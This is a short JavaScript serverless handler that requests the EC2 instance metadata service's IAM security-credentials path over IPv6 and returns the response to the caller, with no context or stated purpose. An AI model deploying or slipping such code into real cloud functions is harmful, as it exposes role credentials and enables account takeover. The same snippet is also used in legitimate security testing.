exports.handler = async () => {
  const r = await fetch("http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/");
  return r.text();
};
